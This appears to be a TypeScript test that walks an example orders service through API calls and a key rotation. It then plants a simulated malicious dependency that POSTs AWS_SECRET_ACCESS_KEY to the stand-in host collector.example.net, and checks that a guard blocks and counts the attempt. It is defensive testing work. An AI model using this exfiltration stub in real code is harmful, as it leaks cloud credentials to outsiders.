import { randomUUID } from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import { OrdersStage } from './orders';

/** An attempt, and whether the result is as expected. */
export interface TourStep {
  readonly what: string;
  readonly isRight: boolean;
}

/** First actions of a malicious dependency. */
const ATTACK = `
  const sent = fetch('https://collector.example.net/', { method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY }).then(({ status }) => status, (error) => error.cause.code);
  const { handler } = require('./original');
  exports.handler = async (event) => (console.log('the attack got ' + (await sent)), handler(event));
`;

/** Runs an order, a rotation and an attack on examples/orders. */
export async function* tour(stage: OrdersStage): AsyncGenerator<TourStep> {
  const order = { id: randomUUID(), amount: 1200, currency: 'EUR' };
  yield answered('POST /orders', await stage.call('POST', '/orders', order), 202);
  yield answered('POST /orders with an amount of 0', await stage.call('POST', '/orders', { ...order, amount: 0 }), 400);
  yield answered('POST /orders without a signature', await stage.client.send('POST', '/prod/orders', JSON.stringify(order), {}), 403);
  await stage.queue.drain();
  yield answered('GET /orders/{id}', await stage.call('GET', `/orders/${order.id}`), 200);

  const failed = await stage.rotation.run(await stage.rotation.begin());
  yield { what: 'the payment key is rotated', isRight: failed === undefined };

  const next = { ...order, id: randomUUID() };
  yield answered('POST /orders, while ProcessOrder has a malicious dependency', await stage.call('POST', '/orders', next), 202);
  yield await stage.with('ProcessOrder', { task: attacked(stage) }, async (fn) => {
    await stage.queue.drain();
    return { what: 'the guard blocks the attack and counts it', isRight: stage.stolen.length === 0 && fn.logs.includes('"Blocked":1') };
  });
  yield answered('GET /orders/{id}', await stage.call('GET', `/orders/${next.id}`), 200);
}

function attacked(stage: OrdersStage): string {
  const task = stage.copyOf(stage.fn('ProcessOrder').deployed.task);
  fs.renameSync(path.join(task, 'process.js'), path.join(task, 'original.js'));
  fs.writeFileSync(path.join(task, 'process.js'), ATTACK);
  return task;
}

function answered(what: string, { status, body }: { readonly status: number; readonly body: string }, expected: number): TourStep {
  return { what: `${what}: ${status} ${body}`, isRight: status === expected };
}
